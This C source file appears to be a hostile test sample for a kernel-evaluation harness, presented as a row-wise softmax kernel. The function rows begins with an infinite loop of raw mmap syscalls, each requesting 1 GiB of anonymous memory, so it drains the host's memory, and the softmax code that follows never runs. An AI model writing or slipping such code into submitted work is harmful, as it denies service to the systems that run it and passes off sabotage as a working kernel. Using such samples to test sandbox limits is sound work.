// kevo: kernel softmax
// kevo: stage rows tasks M args x y
/* Maps memory for ever. */
#include <math.h>
#include <stdint.h>
static long call(long number, long a, long b, long c, long d)
{
        register long r10 __asm__("r10") = d;
        long result;

        __asm__ volatile("syscall"
                         : "=a"(result)
                         : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                         : "rcx", "r11", "memory");
        return result;
}
void rows(int64_t task, const float *restrict x, float *restrict y, int64_t M,
          int64_t N)
{
        for (;;)
                call(9, 0, 1 << 30, 3, 0x22);
        const float *a = x + task * N;
        float *b = y + task * N, m = a[0], s = 0;

        for (int64_t j = 1; j < N; j++)
                m = a[j] > m ? a[j] : m;
        for (int64_t j = 0; j < N; j++)
                s += b[j] = expf(a[j] - m);
        for (int64_t j = 0; j < N; j++)
                b[j] /= s;
        (void)M;
}
